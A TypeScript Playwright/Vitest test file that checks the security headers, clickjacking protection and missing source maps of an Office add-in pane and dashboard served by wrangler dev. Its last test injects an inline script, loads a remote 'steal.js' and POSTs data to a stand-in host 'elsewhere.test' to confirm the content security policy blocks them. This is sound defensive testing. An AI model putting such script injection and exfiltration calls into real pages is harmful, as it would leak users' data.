/**
 * The security headers as a browser gets them from `wrangler dev` with the built assets: the four
 * pages of issue 12 over HTTP, no source map anywhere, and in Chromium the policies doing their
 * job — a page elsewhere cannot frame the dashboard or the pane, and a script from elsewhere does
 * not run. The other browser tests assert that the pane and the dashboard meet no violation.
 */
import { existsSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM_ARGS, chromiumPath } from '../../scripts/chromium.js';
import { API_CSP, DASHBOARD_CSP, PANE_CSP } from '../../worker/middleware/security-headers.js';
import { baseUrl, cspViolations, gotoWhenReady, launchBrowser } from './support.js';

let browser: Browser;

beforeAll(async () => {
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
});

describe('security headers from wrangler dev', () => {
  const pages = [
    { path: '/bureau/', csp: DASHBOARD_CSP, frameOptions: 'DENY', type: 'text/html' },
    { path: '/taskpane.html', csp: PANE_CSP, frameOptions: null, type: 'text/html' },
    { path: '/commands.html', csp: PANE_CSP, frameOptions: null, type: 'text/html' },
    { path: '/api/v1/health', csp: API_CSP, frameOptions: 'DENY', type: 'application/json' },
  ];

  for (const p of pages) {
    it(`should send ${p.path} its policy, nosniff and no referrer`, async () => {
      const res = await fetch(`${baseUrl()}${p.path}`, { redirect: 'manual' });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toContain(p.type);
      expect(res.headers.get('content-security-policy')).toBe(p.csp);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('referrer-policy')).toBe('no-referrer');
      expect(res.headers.get('x-frame-options')).toBe(p.frameOptions);
    });
  }

  it('should serve no source map: none among the built files, and the worker refuses the names', async () => {
    const publicDir = resolve(import.meta.dirname, '../../dist/public');
    expect(existsSync(publicDir)).toBe(true);
    const maps = readdirSync(publicDir, { recursive: true })
      .map(String)
      .filter((f) => f.endsWith('.map'));
    expect(maps).toEqual([]);
    const js = readdirSync(join(publicDir, 'chunks')).find((f) => f.endsWith('.js'))!;
    for (const path of ['/taskpane.js.map', `/chunks/${js}.map`, '/bureau/app.js.map']) {
      expect((await fetch(`${baseUrl()}${path}`)).status, path).toBe(404);
    }
    const bundle = await (await fetch(`${baseUrl()}/taskpane.js`)).text();
    expect(bundle).not.toContain('sourceMappingURL');
  });
});

describe('the policies in Chromium', () => {
  it('should let Office on the web frame the pane, and nobody frame the dashboard (nor the pane elsewhere)', async () => {
    // The framing pages are made up by the test (route.fulfill), so Chromium cannot place them in an
    // address space; its Local Network Access check would then refuse every frame of 127.0.0.1
    // before CSP is asked. A browser without that check shows what the headers alone decide.
    const lnaOff = await chromium.launch({
      executablePath: chromiumPath(),
      args: [
        ...CHROMIUM_ARGS,
        '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults',
      ],
    });
    try {
      const page = await lnaOff.newPage();
      const cdp = await page.context().newCDPSession(page);
      await cdp.send('Log.enable');
      const refused: string[] = [];
      cdp.on('Log.entryAdded', (e: { entry: { text: string } }) => {
        if (e.entry.text.startsWith('Framing ')) refused.push(e.entry.text);
      });
      const framed = async (host: string) => {
        refused.length = 0;
        await page.route(`${host}/frames.html`, (route) =>
          route.fulfill({
            contentType: 'text/html',
            body: `<iframe name="d" src="${baseUrl()}/bureau/"></iframe><iframe name="p" src="${baseUrl()}/taskpane.html"></iframe>`,
          }),
        );
        await page.goto(`${host}/frames.html`);
        await page.waitForTimeout(2_000);
        const loaded = async (name: string) => (await page.frame({ name })?.locator('#app').count()) === 1;
        return { dashboard: await loaded('d'), pane: await loaded('p'), refused: [...refused] };
      };
      // Excel on the web: the pane opens inside it, the dashboard does not.
      const office = await framed('https://excel.officeapps.live.com');
      expect({ dashboard: office.dashboard, pane: office.pane }).toEqual({ dashboard: false, pane: true });
      expect(office.refused).toHaveLength(1);
      expect(office.refused[0]).toContain(`frame-ancestors 'none'`);
      // Some other site (the clickjacking of issue 12): neither opens.
      const elsewhere = await framed('https://elsewhere.test');
      expect({ dashboard: elsewhere.dashboard, pane: elsewhere.pane }).toEqual({ dashboard: false, pane: false });
      expect(elsewhere.refused.some((r) => r.includes(`frame-ancestors 'none'`))).toBe(true);
      expect(elsewhere.refused.some((r) => r.includes('frame-ancestors https://*.officeapps.live.com'))).toBe(true);
    } finally {
      await lnaOff.close();
    }
  });

  it('should not run a script or an inline style that the page did not bring', async () => {
    const page = await browser.newPage();
    await gotoWhenReady(page, `${baseUrl()}/bureau/`);
    const before = cspViolations().length;
    const ran = await page.evaluate(async () => {
      const w = window as unknown as { injected?: boolean };
      const s = document.createElement('script');
      s.textContent = 'window.injected = true';
      document.head.appendChild(s);
      const remote = document.createElement('script');
      remote.src = 'https://elsewhere.test/steal.js';
      document.head.appendChild(remote);
      const sent = await fetch('https://elsewhere.test/collect', { method: 'POST', body: 'x' }).then(
        () => true,
        () => false,
      );
      const div = document.createElement('div');
      div.setAttribute('style', 'display: none');
      document.body.appendChild(div);
      return { inline: w.injected === true, sent, styled: getComputedStyle(div).display === 'none' };
    });
    expect(ran).toEqual({ inline: false, sent: false, styled: false });
    await page.waitForTimeout(300);
    const seen = cspViolations().slice(before).join('\n');
    expect(seen).toContain("script-src 'self'");
    expect(seen).toContain("connect-src 'self'");
    expect(seen).toContain("style-src 'self'");
    await page.close();
  });
});
